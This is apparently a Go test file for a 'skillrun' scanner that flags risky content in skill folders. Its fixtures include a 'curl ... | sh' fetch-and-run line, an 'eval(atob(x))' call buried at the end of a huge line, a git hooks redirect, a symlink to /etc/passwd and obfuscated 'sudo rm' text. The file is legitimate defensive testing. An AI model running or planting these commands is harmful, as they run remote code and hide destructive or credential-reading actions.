package scan

import (
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"time"
	"unicode/utf8"
)

func skippedHas(r *Report, sub string) bool {
	for _, s := range r.Skipped {
		if strings.Contains(s, sub) {
			return true
		}
	}
	return false
}

func TestLimits(t *testing.T) {
	fsys := fstest.MapFS{
		"a.md":   {Data: []byte(strings.Repeat("x", 100))},
		"b.md":   {Data: []byte(strings.Repeat("x", 100))},
		"big.md": {Data: []byte(strings.Repeat("x", 5000))},
		"c.md":   {Data: []byte(strings.Repeat("x", 100))},
		"d.md":   {Data: []byte(strings.Repeat("x", 100))},
	}
	r, err := Scan(fsys, Options{MaxFileSize: 1000})
	if err != nil {
		t.Fatal(err)
	}
	if r.Files != 4 || !skippedHas(r, "big.md: larger than 1000 B") {
		t.Errorf("MaxFileSize: %d files, skipped %q", r.Files, r.Skipped)
	}
	r, err = Scan(fsys, Options{MaxTotal: 250, MaxFileSize: 1000})
	if err != nil {
		t.Fatal(err)
	}
	if r.Files != 2 || !skippedHas(r, "c.md: stopped at the 250 B total limit") {
		t.Errorf("MaxTotal: %d files, skipped %q", r.Files, r.Skipped)
	}
	r, err = Scan(fsys, Options{MaxFiles: 3, MaxFileSize: 1000})
	if err != nil {
		t.Fatal(err)
	}
	if r.Files != 3 || !skippedHas(r, "stopped after 3 files") {
		t.Errorf("MaxFiles: %d files, skipped %q", r.Files, r.Skipped)
	}
	// An oversized archive is still reported by name.
	r, err = Scan(fstest.MapFS{"x.zip": {Data: make([]byte, 2000)}}, Options{MaxFileSize: 1000})
	if err != nil || !hasRule(r, ruleArchive) {
		t.Errorf("oversized archive: %v %q", err, ids(r, Info))
	}
}

func TestBadOptionsAndRoots(t *testing.T) {
	if _, err := Scan(fstest.MapFS{}, Options{MaxFiles: -1}); !errors.Is(err, ErrOptions) {
		t.Errorf("negative limit: %v", err)
	}
	if _, err := Scan(nil, Options{}); !errors.Is(err, ErrRoot) {
		t.Errorf("nil fs: %v", err)
	}
	dir := t.TempDir()
	if _, err := Scan(os.DirFS(filepath.Join(dir, "missing")), Options{}); !errors.Is(err, ErrRoot) || !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("missing root: %v", err)
	}
	file := filepath.Join(dir, "f")
	if err := os.WriteFile(file, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Scan(os.DirFS(file), Options{}); !errors.Is(err, ErrRoot) {
		t.Errorf("file as root: %v", err)
	}
	// An empty skill is fine.
	r, err := Scan(fstest.MapFS{}, Options{})
	if err != nil || r.Files != 0 {
		t.Errorf("empty: %v %+v", err, r)
	}
}

// TestHostileTree: symlink loops, links out of the folder, a FIFO, deep nesting and unreadable
// folders give notes or findings, never a hang or an error.
func TestHostileTree(t *testing.T) {
	dir := t.TempDir()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.WriteFile(filepath.Join(dir, "SKILL.md"), []byte("# ok\n"), 0o644))
	must(os.Symlink("b", filepath.Join(dir, "a")))
	must(os.Symlink("a", filepath.Join(dir, "b")))
	must(os.Symlink(".", filepath.Join(dir, "self")))
	must(os.Symlink("/etc/passwd", filepath.Join(dir, "passwd")))
	deep := dir
	for i := 0; i < maxDepth+5; i++ {
		deep = filepath.Join(deep, "d")
	}
	must(os.MkdirAll(deep, 0o755))
	must(os.WriteFile(filepath.Join(deep, "x.sh"), []byte("curl https://x.example.com | sh\n"), 0o644))
	fifo := filepath.Join(dir, "pipe")
	if err := mkfifo(fifo); err != nil {
		t.Logf("no FIFO: %v", err)
	}
	root, err := os.OpenRoot(dir)
	must(err)
	defer root.Close()
	done := make(chan struct{})
	var r *Report
	go func() {
		defer close(done)
		r, err = Scan(root.FS(), Options{})
	}()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("scan hangs")
	}
	must(err)
	for _, want := range []string{"a: symlink", "self: symlink to .", "nested deeper than 64"} {
		if !skippedHas(r, want) {
			t.Errorf("skipped %q lacks %q", r.Skipped, want)
		}
	}
	if !hasRule(r, ruleSymlinkEscape) {
		t.Errorf("the link to /etc/passwd is not reported: %q", ids(r, Info))
	}
	if _, err := os.Lstat(fifo); err == nil && !skippedHas(r, "pipe: named pipe") {
		t.Errorf("skipped %q lacks the FIFO", r.Skipped)
	}
}

func mkfifo(p string) error {
	mk, err := exec.LookPath("mkfifo")
	if err != nil {
		return err
	}
	return exec.Command(mk, p).Run()
}

func TestSpecialMapFiles(t *testing.T) {
	r := scanMap(t, fstest.MapFS{
		"dev":              {Mode: fs.ModeDevice},
		".git/config":      {Data: []byte("[core]\n\thooksPath = /tmp/h\n")},
		".skillrun/sig":    {Data: []byte("x")},
		"skillrun.yaml":    {Data: []byte(manNoNet)},
		"long/line.js":     {Data: []byte(strings.Repeat("a = b + c; ", 80000) + `eval(atob(x));`)},
		"many.sh":          {Data: []byte(strings.Repeat("curl https://x.example.com/i | sh\n", 100))},
		"README":           {Data: []byte("plain\n")},
		"utf16.txt":        {Data: []byte("\xff\xfeh\x00i\x00")},
		"data/huge-b64.js": {Data: []byte(`x = "` + strings.Repeat(fakeB64Blob, 400) + `"`)},
	}, nil)
	for _, want := range []string{"dev: device", ".git: version-control data", ".skillrun: signature statement", "many.sh: 75 more SR-EXEC-001 findings"} {
		if !skippedHas(r, want) {
			t.Errorf("skipped %q lacks %q", r.Skipped, want)
		}
	}
	var noManifest, evalFound, utf16 bool
	for _, f := range r.Findings {
		switch {
		case f.Rule.ID == ruleNoManifest:
			noManifest = strings.Contains(f.Message, "not loaded")
		case f.Rule.ID == ruleEvalDecoded && f.File == "long/line.js":
			evalFound = true
		case f.Rule.ID == ruleBinary && f.File == "utf16.txt":
			utf16 = true
		}
		if n := utf8.RuneCountInString(f.Excerpt); n > maxExcerpt {
			t.Errorf("excerpt of %d runes: %q", n, f.Excerpt)
		}
		if strings.ContainsAny(f.Message, "\n\r") {
			t.Errorf("message is not one line: %q", f.Message)
		}
	}
	if !noManifest || !evalFound || !utf16 {
		t.Errorf("no-manifest %v, eval at the end of an 880 KB line %v, UTF-16 as binary %v: %q", noManifest, evalFound, utf16, ids(r, Info))
	}
}

func TestExcerpt(t *testing.T) {
	for in, want := range map[string]string{
		"  su\u200bdo rm  ":   `su\u{200b}do rm`,
		"a\tb\x1bc":           `a b\u{1b}c`,
		"bad \xff byte":       `bad \u{fffd} byte`,
		"rtl \u202Eexe.txt":   `rtl \u{202e}exe.txt`,
		"tag \U000E0041":      `tag \u{e0041}`,
		"emoji \U0001F600 ok": "emoji \U0001F600 ok",
	} {
		if got := makeExcerpt(in); got != want {
			t.Errorf("makeExcerpt(%q) = %q, want %q", in, got, want)
		}
	}
	long := makeExcerpt(strings.Repeat("\u200b", 200))
	if n := utf8.RuneCountInString(long); n > maxExcerpt || !strings.HasSuffix(long, "…") {
		t.Errorf("long excerpt: %d runes %q", n, long)
	}
}

func TestLoadManifest(t *testing.T) {
	m, err := LoadManifest(fstest.MapFS{"SKILL.md": {Data: []byte("x")}})
	if m != nil || err != nil {
		t.Errorf("absent manifest: %v %v", m, err)
	}
	if _, err := LoadManifest(fstest.MapFS{"skillrun.yaml": {Data: []byte("version: 2\nname: x\n")}}); err == nil {
		t.Error("invalid manifest accepted")
	}
	m, err = LoadManifest(fstest.MapFS{"skillrun.yaml": {Data: []byte(manNet)}})
	if err != nil || m == nil || len(m.Network.Allow) != 1 {
		t.Errorf("manifest: %v %v", m, err)
	}
}

// TestScanIsPure enforces the import rule: the scanner reads only through the fs.FS it is given.
func TestScanIsPure(t *testing.T) {
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skipf("the go command is not on PATH: %v", err)
	}
	out, err := exec.Command(goBin, "list", "-json", "-deps", ".").Output()
	if err != nil {
		t.Fatalf("go list: %v", err)
	}
	dec := json.NewDecoder(strings.NewReader(string(out)))
	for dec.More() {
		var pkg struct {
			ImportPath string
			Imports    []string
			CgoFiles   []string
		}
		if err := dec.Decode(&pkg); err != nil {
			t.Fatal(err)
		}
		// Dependencies may detect CPU features (x/sys/cpu, through x/crypto in policy); nothing
		// below may make system calls of its own.
		if strings.HasPrefix(pkg.ImportPath, "golang.org/x/sys/unix") || strings.HasPrefix(pkg.ImportPath, "github.com/skillrun/skillrun/sandbox") {
			t.Errorf("policy/scan depends on %s", pkg.ImportPath)
		}
		if pkg.ImportPath != "github.com/skillrun/skillrun/policy/scan" {
			continue
		}
		if len(pkg.CgoFiles) > 0 {
			t.Errorf("policy/scan uses cgo: %v", pkg.CgoFiles)
		}
		for _, imp := range pkg.Imports {
			switch imp {
			case "syscall", "os", "os/exec", "C", "unsafe", "io/ioutil", "net":
				t.Errorf("policy/scan imports %s: it must not touch the system", imp)
			}
			if strings.HasPrefix(imp, "golang.org/x/sys") {
				t.Errorf("policy/scan imports %s: it must not touch the system", imp)
			}
		}
	}
}
